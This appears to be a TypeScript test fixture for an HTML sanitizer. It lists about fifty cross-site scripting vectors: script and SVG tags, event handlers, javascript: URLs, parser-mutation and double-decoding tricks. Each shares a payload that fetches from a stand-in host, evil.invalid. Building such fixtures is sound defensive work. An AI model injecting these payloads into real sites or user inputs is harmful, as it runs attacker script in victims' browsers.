/** What a vector does when it runs: it leaves a mark, opens a dialog and asks a foreign host. */
const RUN = `window.ran=1;alert(1);fetch('//evil.invalid/')`;

/**
 * Markup that runs script or fetches something in one browser or another: the shapes that the
 * published collections of cross-site scripting vectors list, one of each kind.
 */
export const activeMarkup: readonly string[] = [
  // Elements that run or fetch by themselves.
  `<script>${RUN}</script>`,
  `<<script>${RUN}//<</script>`,
  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  `<script>${RUN}`,
  `<svg><script href="data:text/javascript,${RUN}"/></svg>`,
  `<iframe src="javascript:parent.ran=1"></iframe>`,
  `<embed src="data:text/html,<script>${RUN}</script>">`,
  `<object data="javascript:${RUN}"></object>`,
  `<link rel=stylesheet href=//evil.invalid/x.css>`,
  `<style>@import '//evil.invalid/x.css';</style>`,
  `<meta http-equiv=refresh content="0;url=javascript:${RUN}">`,
  `<base href=//evil.invalid/><img src=x.png>`,
  `<img src=//evil.invalid/x.png>`,
  `<img srcset="//evil.invalid/x.png 1x">`,
  `<picture><source srcset=//evil.invalid/x.png><img></picture>`,
  `<audio autoplay src=//evil.invalid/x.mp3></audio>`,
  `<body background=//evil.invalid/x.png onload="${RUN}">`,
  `<form action="javascript:${RUN}"><input type=submit autofocus onfocus="${RUN}"></form>`,
  // Handlers that run by themselves.
  `<img src=x onerror="${RUN}">`,
  `<img/src=x/onerror=${RUN}>`,
  `<img """><script>${RUN}</script>">`,
  `<svg/onload="${RUN}">`,
  `<svg><animate onbegin="${RUN}" attributeName=x dur=1s>`,
  `<svg><a><animate attributeName=href values="javascript:${RUN}"/><text>x</text></a></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='${RUN}'/></svg>#x"/>`,
  `<details open ontoggle="${RUN}">x</details>`,
  `<input autofocus onfocus="${RUN}">`,
  `<style>@keyframes k{}</style><b style="animation:k" onanimationstart="${RUN}">x</b>`,
  `<x contenteditable onblur="${RUN}" onclick="${RUN}">x</x>`,
  // Addresses that are code.
  `<a href="javascript:${RUN}">x</a>`,
  `<a href="&#106;avascript&colon;${RUN}">x</a>`,
  `<a href="\u0001javascript:${RUN}">x</a>`,
  `<a href="data:text/html,<script>${RUN}</script>">x</a>`,
  // Markup that changes its meaning when it is parsed a second time.
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${RUN}&gt;">`,
  `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror="${RUN}">`,
  `<svg></p><style><a id="</style><img src=x onerror=${RUN}>">`,
  `<textarea><img title="</textarea><img src=x onerror=${RUN}>">`,
  `<select><template shadowrootmode=open><img src=x onerror="${RUN}"></template></select>`,
  `<!--<img title="--!><img src=x onerror=${RUN}>">`,
  `<![CDATA[<img src=x onerror="${RUN}">]]>`,
  `<?xml-stylesheet href="javascript:${RUN}"?><img src=x onerror="${RUN}">`,
  `<!doctype html><!entity x "<img src=x onerror=${RUN}>">&x;`,
  // Texts that become markup when they are read once too often.
  `&lt;script&gt;${RUN}&lt;/script&gt;`,
  `&amp;lt;img src=x onerror=${RUN}&amp;gt;`,
  `&lt&#x73;cript>${RUN}&lt/script>`,
  `"><img src=x onerror="${RUN}">`,
  `" onmouseover="${RUN}" x="`,
  `</td></tr></table><img src=x onerror="${RUN}">`,
  `</title></head><body onload="${RUN}">`,
  `\ufeff\u0000<\u0000script>${RUN}</script>`,
  `+ADw-script+AD4-${RUN}+ADw-/script+AD4-`,
  `{{constructor.constructor('${RUN}')()}}\${${RUN}}`,
];
